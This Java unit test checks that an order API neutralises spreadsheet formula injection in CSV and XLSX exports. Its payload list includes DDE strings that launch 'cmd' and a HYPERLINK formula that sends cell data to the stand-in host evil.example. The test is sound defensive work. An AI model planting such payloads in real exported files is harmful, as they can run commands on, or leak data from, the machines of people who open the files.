package io.seatledger.standalone.service;

import static org.assertj.core.api.Assertions.assertThat;

import io.seatledger.standalone.service.Service.Answer;
import io.seatledger.standalone.service.Service.Caller;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/** What callers could type through the API, taken out as files (P26). */
class ExportedFormulasTest {
    private static final List<String> STARTERS = List.of("=", "+", "-", "@", " =", "\"=", "\uFF1D", "\u00A0@");
    private static final List<String> FORMS = List.of(
            "cmd|'/C calc'!A0",
            "HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
            "1+1,=1+1;=1+1",
            "DDE(\"cmd\";\"/C calc\";\"x\")");

    private final Shop shop = Shop.withAgreement();

    private static String json(String text) {
        return JsonMapper.shared().writeValueAsString(text);
    }

    private static List<String> payloads() {
        return STARTERS.stream()
                .flatMap(starter -> FORMS.stream().map(form -> starter + form))
                .toList();
    }

    @Test
    void P26_what_was_typed_is_text_in_every_file() {
        List<String> payloads = payloads();
        List<String> taken = new ArrayList<>();
        Answer last = null;
        for (String payload : payloads) {
            Answer placed = shop.buy(shop.order(
                    2, ", \"purchaseOrderNumber\": %s, \"fundingPool\": %s".formatted(json(payload), json(payload))));
            assertThat(placed.status()).as(payload + placed.text()).isEqualTo(201);
            String orderId = placed.json().get("orderId").asString();
            last = shop.backend
                    .once()
                    .post("/v1/orders/" + orderId + "/cancellation-requests", "{\"reason\": " + json(payload) + '}');
            assertThat(last.status()).as(last.text()).isEqualTo(201);
            taken.add(0, payload);
        }
        Caller admin = shop.admin.with("Ledger-Position-At-Least", last.header("Ledger-Position"));
        for (String column : List.of("purchaseOrderNumber", "fundingPool")) {
            texts(admin, "/v1/orders?storeId=" + shop.store, column, taken);
        }
        texts(admin, "/v1/requests?storeId=" + shop.store, "reason", taken);
    }

    private static void texts(Caller caller, String list, String column, List<String> typed) {
        ExportedFile csv = ExportedFile.csv(caller, list);
        int at = csv.header().indexOf(column);
        assertThat(csv.rows().stream().map(row -> row.get(at)))
                .containsExactlyElementsOf(
                        typed.stream().map(text -> '\'' + text).toList());
        ExportedFile xlsx = ExportedFile.xlsx(caller, list);
        assertThat(xlsx.rows().stream().map(row -> row.get(at))).containsExactlyElementsOf(typed);
        assertThat(WorkbookForTests.read(xlsx.answer().response().body())
                        .sheet(1)
                        .getElementsByTagName("f")
                        .getLength())
                .isZero();
    }
}
